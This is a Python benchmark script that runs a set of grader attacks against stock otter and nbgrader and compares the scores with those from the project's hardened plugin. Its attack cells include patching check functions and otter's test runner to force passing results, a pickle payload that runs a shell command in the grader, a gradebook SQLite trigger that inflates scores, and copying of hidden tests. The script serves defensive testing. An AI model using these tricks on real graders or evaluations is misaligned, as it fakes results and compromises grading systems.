"""What stock otter and stock nbgrader let through: `python benchmarks/stock_attacks.py [TOPIC]`

Each attack is the topic's stub, worth nothing, with one cell before it. It is graded by the stock
tools, whose kernel runs it, and by the same tools with Gradus's plugin and step. Shown are the
scores, and whether code of the submission ran outside of any sandbox (it leaves a file).
"""

from __future__ import annotations

import argparse
import tempfile
from pathlib import Path

from rich.console import Console
from rich.table import Table

from gradus.checks.session import list_checks
from gradus.course import find_course, load_course
from gradus.jobs import Job
from gradus.release.student import student_files
from gradus.tools.nbgrader.bundle import nbgrader_files
from gradus.tools.nbgrader.grade import nbgrader_runs
from gradus.tools.otter.bundle import otter_files
from gradus.tools.otter.grade import otter_runs

ATTACKS = {
    "rebinds the check": """
import gradus.notebook
gradus.notebook.check = lambda topic, function, points: points
gradus.notebook.require = lambda topic, function, name: None
""",
    "otter: rebinds its test's run": """
from otter.test_files.abstract_test import TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
def run(self, env):
    self.test_case_results = [TestCaseResult(t, "", True) for t in self.test_cases]
ExceptionTestFile.run = run
""",
    "otter: a pickle that runs code in the grader": """
import os, pickle
class Payload:
    def __reduce__(self):
        return os.system, ("touch WITNESS",)
dump = pickle.dump
pickle.dump = lambda value, file: dump(Payload(), file)
""",
    "nbgrader: shows another number": """
get_ipython().display_formatter.format = lambda value: ({"text/plain": "100"}, {})
""",
    "nbgrader: writes into the gradebook": """
import glob, sqlite3
for file in glob.glob("../../../gradebook.db"):
    with sqlite3.connect(file, timeout=5) as db:
        db.execute("create trigger more after update of auto_score on grade begin "
                   "update grade set auto_score = 20 where id = new.id; end")
""",
    "copies the hidden tests": """
import glob, shutil
for file in glob.glob("**/hidden_tests/test_*.py", recursive=True) + glob.glob(
    "../../../hidden_tests/test_*.py"
):
    shutil.copy(file, "WITNESS")
""",
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("topic", nargs="?", default="lr_schedules")
    course = load_course(find_course())
    topic = course.topic(parser.parse_args().topic)
    checks = list_checks(course.test_file(topic))
    given = student_files(course, topic, checks)
    stub = given[f"{topic.id}.py"].decode()
    table = Table("attack", "stock otter", "with plugin", "stock nbgrader", "with step", box=None)
    with tempfile.TemporaryDirectory() as folder:
        for name, code in ATTACKS.items():
            witness = Path(folder) / "witness"
            text = code.replace("WITNESS", str(witness)) + stub
            job = Job(name, f"{topic.id}.py", text.encode())
            row = []
            for plugin in (False, True):
                archive = otter_files(course, topic, checks, given, plugin=plugin)
                ((_, outcome),) = otter_runs(archive[f"{topic.id}.zip"], [job], 1)
                points = "—" if isinstance(outcome, str) else f"{sum(outcome[0].values()):g}"
                row.append(points + ran(witness))
            for sandbox in (False, True):
                files = nbgrader_files(course, topic, checks, given, sandbox=sandbox)
                ((_, score, _),) = nbgrader_runs(topic.id, files, [job])
                row.append(("—" if score is None else f"{score:g}") + ran(witness))
            table.add_row(name, *row)
    Console(width=120).print(table)
    print(f"of {topic.points} points; +: its code ran, or what it copied was found, outside")


def ran(witness: Path) -> str:
    there = witness.exists()
    witness.unlink(missing_ok=True)
    return " +" if there else ""


if __name__ == "__main__":
    main()
